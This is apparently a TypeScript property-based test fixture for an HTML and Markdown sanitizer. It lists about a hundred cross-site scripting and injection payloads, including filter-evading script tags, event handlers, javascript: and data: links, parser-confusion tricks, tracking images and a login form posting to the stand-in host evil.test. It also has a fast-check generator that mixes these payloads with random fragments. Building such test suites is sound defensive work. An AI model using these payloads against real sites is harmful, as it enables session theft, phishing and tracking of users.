import fc from 'fast-check'

/** Ways in which a text has made a page or a mail do something, each with its own trick. */
export const attacks: readonly string[] = [
  // Scripts, and what hides them from a filter
  '<script>steal()</script>',
  '<ScRiPt src=//evil.test/x.js></sCrIpT >',
  '<script/x>steal()</script>',
  '<<script>steal();//<</script>',
  '<scr<script>ipt>steal()</scr</script>ipt>',
  '<script\u0000>steal()</script>',
  '<!--><script>steal()</script-->',
  '<!-- --!><img src=x onerror=steal()>',
  '<![CDATA[<img src=x onerror=steal()>]]>',
  '<?php <img src=x onerror=steal()> ?>',
  '<!ENTITY x "<img src=x onerror=steal()>">',
  '&lt;script&gt;steal()&lt;/script&gt;',
  '&amp;lt;img src=x onerror=steal()&amp;gt;',
  // Event handlers
  '<img src=x onerror=steal()>',
  '<img src="x`y" onerror=steal()>',
  '<img/src=x/onerror=steal()>',
  '<p onclick="steal()">tekst</p>',
  '<a href="https://ok.test" onmouseover="steal()">x</a>',
  '<b style="x:expression(steal())">x</b>',
  '<body onload=steal()>',
  '<details open ontoggle=steal()>',
  '<video><source onerror=steal()></video>',
  '<input autofocus onfocus=steal()>',
  '<p id="x" onclick\u000C=steal()>x</p>',
  // Links that are programs
  '[x](javascript:steal())',
  '[x](JaVaScRiPt:steal())',
  '[x](java\tscript:steal())',
  '[x](&#106;avascript:steal())',
  '[x](&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;steal())',
  '[x](\u0001javascript:steal())',
  '[x](vbscript:steal())',
  '[x](data:text/html;base64,PHNjcmlwdD5zdGVhbCgpPC9zY3JpcHQ+)',
  '[x](//evil.test/x)',
  '[x](https://politie.be@evil.test/)',
  '[x](file:///etc/passwd)',
  '[x](blob:https://bin.test/1)',
  '[x]: javascript:steal()\n\n[x]',
  '<javascript:steal()>',
  '<a href="javascript:steal()">x</a>',
  '<a href=" &#14; javascript:steal()">x</a>',
  '<a href="jav&#x0A;ascript:steal()">x</a>',
  '<a href="javascript&colon;steal()">x</a>',
  '<a xlink:href="javascript:steal()">x</a>',
  '<a href="https://ok.test/&quot;onclick=&quot;steal()">x</a>',
  '[x](https://ok.test/"onclick="steal)',
  '[x](<https://ok.test/><img src=x onerror=steal()>)',
  '[x](https://ok.test "title" onclick=steal())',
  // Images that are not ours
  '![foto](https://evil.test/pixel.png)',
  '![foto](data:image/svg+xml;base64,PHN2Zy8+)',
  '![foto](//evil.test/p.png)',
  '![foto](bulletin-image:../../geheim)',
  '![foto](/media/../geheim)',
  '![foto](bulletin-image:slot.jpg" onerror="steal)',
  '![" onerror="steal()](bulletin-image:slot.jpg)',
  '![<img src=x onerror=steal()>](https://evil.test/p.png)',
  '<img src="bulletin-image:slot.jpg" srcset="https://evil.test/p.png 2x">',
  '<img src="bulletin-image:slot.jpg" onerror=steal()>',
  '<picture><source srcset="https://evil.test/p.png"></picture>',
  '<svg><image href="https://evil.test/p.png"/></svg>',
  '<table background="https://evil.test/p.png"><tr><td>x</td></tr></table>',
  '<style>body{background:url(https://evil.test/p.png)}</style>',
  '<div style="background:url(https://evil.test/p.png)">x</div>',
  // Elements that load, send or take over the page
  '<iframe src="https://evil.test"></iframe>',
  '<iframe srcdoc="<script>parent.steal()</script>">',
  '<object data="https://evil.test"></object><embed src="https://evil.test">',
  '<meta http-equiv="refresh" content="0;url=https://evil.test">',
  '<base href="https://evil.test/">',
  '<link rel="stylesheet" href="https://evil.test/x.css">',
  '<form action="https://evil.test"><input name=x><button>Inloggen</button></form>',
  '<template><script>steal()</script></template>',
  '<a href="https://ok.test" target="_blank" ping="https://evil.test">x</a>',
  // What one parser reads differently from another
  '<svg><style><img src=x onerror=steal()></style></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=steal()></style></mglyph></table></mtext></math>',
  '<svg></p><style><a id="</style><img src=1 onerror=steal()>">',
  '<noscript><p title="</noscript><img src=x onerror=steal()>"></noscript>',
  '<noscript><p></noscript><img src=x onerror=steal()>',
  '<textarea></textarea/><img src=x onerror=steal()>',
  '<xmp><p title="</xmp><img src=x onerror=steal()>"></xmp>',
  '<title><a href="</title><img src=x onerror=steal()>"></title>',
  '<select><option><img src=x onerror=steal()></option></select>',
  '<plaintext><img src=x onerror=steal()>',
  '<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=steal()>',
  '<a href="x"<img src=x onerror=steal()>',
  '<p title="x><img src=x onerror=steal()>',
  '`<img src=x onerror=steal()>`',
  '```\n<img src=x onerror=steal()>\n```',
  '    <img src=x onerror=steal()>',
  // Broken HTML that would reach into the page around it
  '</p></div></body></html><h1>Nieuwe pagina</h1>',
  '</td></tr></table><td>buiten',
  '<table><p>los<td>cel</table>',
  '<li>los <tr><td>cel</td></tr> </ul>',
  '<b><i><p>kruis</b>elings</i></p>',
  '<a href="https://a.test">een<a href="https://b.test">twee</a></a>',
  '<div><div><div>',
  '<p',
  '<',
  '<a href="',
]

const signs = String.raw`< > </ /> " ' = & &# &lt; &#60; &quot; ; ( ) [ ] ![ ]( * ** _ # | \ <!-- --> ${'`'}`.split(' ')
const elements = 'script style svg math img a p b table tr td li ul iframe noscript'.split(' ')
const markup = '<script>|</script>|<b>|</b>|<p>|<td>|</table>|<a href="|<img src=| onerror=steal() '.split('|')
const lines = ['\n', '\n\n', '    ', '> ', '- ', '1. ', '# ', '\n|-|-|\n', '\t', ' ']
const targets =
  'javascript: java&#115;cript: https://ok.test/ mailto:a@b.be data:text/html, bulletin-image:slot.jpg'.split(' ')
const words = ['steal()', 'tekst', 'é', '\u0000', '\u00A0', '\u202E', '\u200B', '\uD800', '🏡']
const pieces = [signs, elements, markup, lines, targets, words].flat()

/** Texts put together from the parts attacks are made of, in any order. */
export const soup = fc
  .array(fc.oneof(fc.constantFrom(...pieces), fc.constantFrom(...attacks), fc.string({ maxLength: 6 })), {
    maxLength: 14,
  })
  .map((parts) => parts.join(''))
